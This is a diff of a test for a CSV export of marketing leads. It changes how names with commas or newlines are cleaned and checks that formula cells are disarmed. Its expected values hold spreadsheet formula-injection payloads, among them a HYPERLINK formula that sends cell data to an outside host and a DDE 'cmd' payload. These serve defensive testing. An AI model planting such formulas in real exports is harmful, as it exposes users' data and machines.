@@ -67,7 +67,7 @@ test("marks the leads that later unsubscribed, and lists every address that did"
   expect((await leads(databaseFile, "--csv")).stdout).toMatch(/04T12:00:00\.000Z,,\n$/);
 });
 
-test("quotes what would break a row and disarms what a spreadsheet would run", async () => {
+test("cleans what would break a row or a list of addresses, and disarms what a spreadsheet would run", async () => {
   const { databaseFile } = await storeWith([
     'Ana "la buena"',
     "López, Ana",
@@ -84,12 +84,12 @@ test("quotes what would break a row and disarms what a spreadsheet would run", a
   const afterIdentity = stdout.split(/MKT-[0-9-]+,/).slice(1);
   const expected = [
     '"Ana ""la buena"""',
-    '"López, Ana"',
-    '"Ana\nLópez"',
+    "López Ana",
+    "Ana López",
     "'=HYPERLINK(1)",
-    `"'=HYPERLINK(""https://otro.example/?""&A1,""Ana"")"`,
+    `"'=HYPERLINK(""https://otro.example/ ""&A1 ""Ana"")"`,
     "'＝cmd|' /C calc'!A0",
-    "'\t=1+1",
+    "'=1+1",
     "'+52",
     "'@ana",
     "'-1",
